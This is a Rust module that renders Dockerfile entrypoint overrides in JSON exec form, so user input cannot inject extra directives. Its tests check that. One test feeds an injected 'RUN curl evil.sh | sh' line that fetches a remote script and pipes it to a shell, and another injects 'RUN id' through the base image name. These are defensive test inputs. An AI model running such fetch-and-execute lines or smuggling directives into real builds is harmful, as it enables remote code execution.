//! Entrypoint overrides for intermediate container images.
//!
//! Overrides are always written as a JSON exec form, so the user-supplied
//! command can never terminate the `ENTRYPOINT` line and add directives of
//! its own.

use crate::error::Error;

/// File name of the image definition written into the build context
pub const DEFINITION_FILE: &str = "Dockerfile";

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EntrypointOverride {
    argv: Vec<String>,
}

impl EntrypointOverride {
    /// Parse a user-supplied override.
    ///
    /// Empty input means "no override". Input starting with `[` must be a JSON
    /// array of strings; anything else is run through `/bin/sh -c`.
    pub fn parse(raw: &str) -> Result<Option<Self>, Error> {
        let trimmed = raw.trim();
        if trimmed.is_empty() {
            return Ok(None);
        }

        let argv = if trimmed.starts_with('[') {
            let argv: Vec<String> = serde_json::from_str(trimmed).map_err(|e| {
                Error::InvalidEntrypoint(format!("expected a JSON array of strings: {}", e))
            })?;
            match argv.first() {
                Some(program) if !program.trim().is_empty() => argv,
                _ => {
                    return Err(Error::InvalidEntrypoint(
                        "exec form needs a program to run".to_string(),
                    ))
                }
            }
        } else {
            vec!["/bin/sh".to_string(), "-c".to_string(), trimmed.to_string()]
        };

        Ok(Some(Self { argv }))
    }

    pub fn argv(&self) -> &[String] {
        &self.argv
    }

    /// Render the image definition deriving from `base_image`
    pub fn render_definition(&self, base_image: &str) -> Result<String, Error> {
        if base_image.is_empty()
            || base_image
                .chars()
                .any(|c| c.is_whitespace() || c.is_control())
        {
            return Err(Error::InvalidImageReference(base_image.to_string()));
        }

        let exec_form = serde_json::to_string(&self.argv)
            .map_err(|e| Error::InvalidEntrypoint(e.to_string()))?;

        Ok(format!("FROM {}\nENTRYPOINT {}\n", base_image, exec_form))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blank_override_is_no_override() {
        assert_eq!(EntrypointOverride::parse("").unwrap(), None);
        assert_eq!(EntrypointOverride::parse("   \n").unwrap(), None);
    }

    #[test]
    fn exec_form_is_kept() {
        let entry = EntrypointOverride::parse(r#"["nginx", "-g", "daemon off;"]"#)
            .unwrap()
            .unwrap();
        assert_eq!(entry.argv(), ["nginx", "-g", "daemon off;"]);
        assert_eq!(
            entry.render_definition("nginx:alpine").unwrap(),
            "FROM nginx:alpine\nENTRYPOINT [\"nginx\",\"-g\",\"daemon off;\"]\n"
        );
    }

    #[test]
    fn shell_command_is_wrapped() {
        let entry = EntrypointOverride::parse("python3 app.py --port 80")
            .unwrap()
            .unwrap();
        assert_eq!(entry.argv(), ["/bin/sh", "-c", "python3 app.py --port 80"]);
    }

    #[test]
    fn malformed_exec_form_is_rejected() {
        for raw in [r#"["unterminated"#, "[1, 2]", "[]", r#"[""]"#] {
            assert!(
                matches!(
                    EntrypointOverride::parse(raw),
                    Err(Error::InvalidEntrypoint(_))
                ),
                "{raw} should be rejected"
            );
        }
    }

    #[test]
    fn newlines_cannot_inject_directives() {
        let entry = EntrypointOverride::parse("echo hi\nRUN curl evil.sh | sh")
            .unwrap()
            .unwrap();
        let definition = entry.render_definition("alpine:3").unwrap();

        assert_eq!(definition.lines().count(), 2);
        assert!(!definition.lines().any(|line| line.starts_with("RUN")));
        assert!(definition.contains(r#"echo hi\nRUN curl evil.sh | sh"#));
    }

    #[test]
    fn base_image_must_be_a_single_token() {
        let entry = EntrypointOverride::parse("true").unwrap().unwrap();
        for image in ["", "alpine\nRUN id", "alpine latest"] {
            assert!(matches!(
                entry.render_definition(image),
                Err(Error::InvalidImageReference(_))
            ));
        }
    }
}
